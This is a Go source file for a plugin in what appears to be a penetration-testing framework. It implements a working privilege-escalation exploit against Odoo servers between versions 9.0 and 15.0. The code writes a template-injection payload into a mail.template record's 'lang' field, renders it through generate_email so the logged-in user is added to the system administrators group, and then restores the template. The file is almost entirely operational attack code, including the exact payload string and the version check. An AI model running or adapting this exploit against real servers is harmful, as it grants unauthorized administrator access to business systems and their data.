// Package privesc escalates an authenticated user to the settings group on
// servers that render mail.template fields with an unsandboxed template
// engine.
package privesc

import (
	"context"
	"errors"
	"fmt"
	"regexp"
	"time"

	"bytemomo/oarfish/internal/domain"
	"bytemomo/oarfish/internal/plugin"
	"bytemomo/oarfish/internal/target"

	"github.com/google/uuid"
	"github.com/hashicorp/go-version"
	"github.com/sirupsen/logrus"
)

// ID is the registry name of the plugin.
const ID = "old-odoo-privesc"

const (
	templateModel = "mail.template"
	hijackModel   = "res.users"
	maxTemplateID = 31
	payload       = `${ object.sudo().write({"groups_id": [(4, object.sudo().env.ref("base.group_system").id)]}) }`
)

var (
	// Vulnerable range is (9.0, 15.0).
	minVersion = version.Must(version.NewVersion("9.0"))
	maxVersion = version.Must(version.NewVersion("15.0"))

	versionRx = regexp.MustCompile(`\d+(\.\d+)*`)

	errNoTemplate = errors.New("no mail template available to hijack")
)

// Plugin holds the state needed to undo the template hijack.
type Plugin struct {
	templateID int
	oldLang    any
	oldModel   any
	written    bool
	log        *logrus.Entry
}

// New returns a fresh plugin instance.
func New() (plugin.Plugin, error) {
	return &Plugin{}, nil
}

func (p *Plugin) Metadata() domain.Descriptor {
	return domain.Descriptor{
		ID:                 ID,
		Name:               "Privilege escalation for old odoo versions",
		Description:        "Try to escalate privileges of the current user, target odoo < 15.0",
		Author:             "jrjgjk",
		Version:            "1.0.0",
		Category:           domain.CategoryExploitation,
		RequiresAuth:       true,
		RequiresConnection: true,
	}
}

func (p *Plugin) Run(ctx context.Context, env *plugin.Env) domain.PluginResult {
	p.log = env.Log
	if p.log == nil {
		p.log = logrus.WithField("plugin", ID)
	}

	res := plugin.RunExploit(ctx, ID, p, env)
	if res.Outcome == domain.OutcomeSuccess {
		res.Findings = append(res.Findings, domain.Finding{
			ID:          uuid.NewString(),
			Source:      ID,
			Success:     true,
			Title:       "Privilege escalation through mail.template rendering",
			Severity:    "critical",
			Description: res.Detail,
			Evidence: map[string]any{
				"template_id": p.templateID,
				"username":    env.Username,
				"database":    env.Database,
			},
			Timestamp: time.Now(),
			Target:    env.Target.String(),
		})
	}
	return res
}

// IsVulnerableVersion reports whether raw falls strictly between 9.0 and
// 15.0. Suffixes such as "+e" or "-20210101" are ignored.
func IsVulnerableVersion(raw string) (bool, string, error) {
	match := versionRx.FindString(raw)
	if match == "" {
		return false, "", fmt.Errorf("no version number in %q", raw)
	}
	v, err := version.NewVersion(match)
	if err != nil {
		return false, match, fmt.Errorf("parse version %q: %w", match, err)
	}
	return v.GreaterThan(minVersion) && v.LessThan(maxVersion), match, nil
}

func (p *Plugin) Check(ctx context.Context, env *plugin.Env) (domain.VulnerabilityStatus, string, error) {
	auth := env.Conn.Authenticate(ctx, env.Database, env.Username, env.Password)
	if !auth.Succeeded() {
		return 0, "", fmt.Errorf("authentication failed: %s", auth.Reason)
	}

	if _, err := env.Conn.Call(ctx, templateModel, "search", []any{[]any{}}, map[string]any{"limit": 1}); err != nil {
		p.log.WithError(err).Debug("mail.template search failed")
		return domain.NotVulnerable, "mail module is not loaded", nil
	}

	info := env.Conn.ProbeVersion(ctx)
	if info == nil || info.ServerVersion == "" {
		return domain.Unknown, "could not determine server version", nil
	}

	ok, parsed, err := IsVulnerableVersion(info.ServerVersion)
	if err != nil {
		return domain.Unknown, "failed to parse server version", nil
	}
	if !ok {
		return domain.NotVulnerable, fmt.Sprintf("version %s is not vulnerable", parsed), nil
	}
	return domain.Vulnerable, fmt.Sprintf("version %s", parsed), nil
}

func (p *Plugin) Exploit(ctx context.Context, env *plugin.Env) (string, error) {
	if err := p.findTemplate(ctx, env.Conn); err != nil {
		return "", err
	}
	p.log.WithFields(logrus.Fields{
		"template_id": p.templateID,
		"lang":        p.oldLang,
		"model":       p.oldModel,
	}).Info("Hijacking mail template")

	// From here on Cleanup has something to restore, even if the write
	// itself errors after reaching the server.
	p.written = true
	reply, err := env.Conn.Call(ctx, templateModel, "write",
		[]any{p.templateID, map[string]any{"lang": payload, "model": hijackModel}}, nil)
	if err != nil {
		return "", fmt.Errorf("store payload: %w", err)
	}
	if !target.AsBool(reply) {
		return "", fmt.Errorf("store payload: write on template %d refused", p.templateID)
	}

	sess, ok := env.Conn.Session()
	if !ok {
		return "", target.ErrNotAuthenticated
	}
	if _, err := env.Conn.Call(ctx, templateModel, "generate_email",
		[]any{p.templateID, sess.UID, []string{"lang"}}, nil); err != nil {
		return "", fmt.Errorf("render payload: %w", err)
	}
	return fmt.Sprintf("payload rendered through template %d, user %q should now be in base.group_system", p.templateID, env.Username), nil
}

func (p *Plugin) Cleanup(ctx context.Context, env *plugin.Env) error {
	if !p.written {
		return nil
	}
	_, err := env.Conn.Call(ctx, templateModel, "write",
		[]any{p.templateID, map[string]any{"lang": orFalse(p.oldLang), "model": orFalse(p.oldModel)}}, nil)
	if err != nil {
		return fmt.Errorf("restore template %d: %w", p.templateID, err)
	}
	p.written = false
	p.log.WithField("template_id", p.templateID).Info("Template restored")
	return nil
}

func (p *Plugin) findTemplate(ctx context.Context, conn domain.ObjectCaller) error {
	for id := 1; id <= maxTemplateID; id++ {
		reply, err := conn.Call(ctx, templateModel, "read", []any{id, []string{"id", "lang", "model"}}, nil)
		if err != nil {
			if ctx.Err() != nil {
				return ctx.Err()
			}
			continue
		}
		records := target.AsRecords(reply)
		if len(records) == 0 {
			continue
		}
		rec := records[0]
		tid, _ := target.AsInt(rec["id"])
		if tid == 0 || target.AsString(rec["model"]) == "" {
			continue
		}
		p.templateID, p.oldLang, p.oldModel = tid, rec["lang"], rec["model"]
		return nil
	}
	return errNoTemplate
}

// orFalse maps missing values to the server's empty-field encoding.
func orFalse(v any) any {
	if v == nil {
		return false
	}
	return v
}
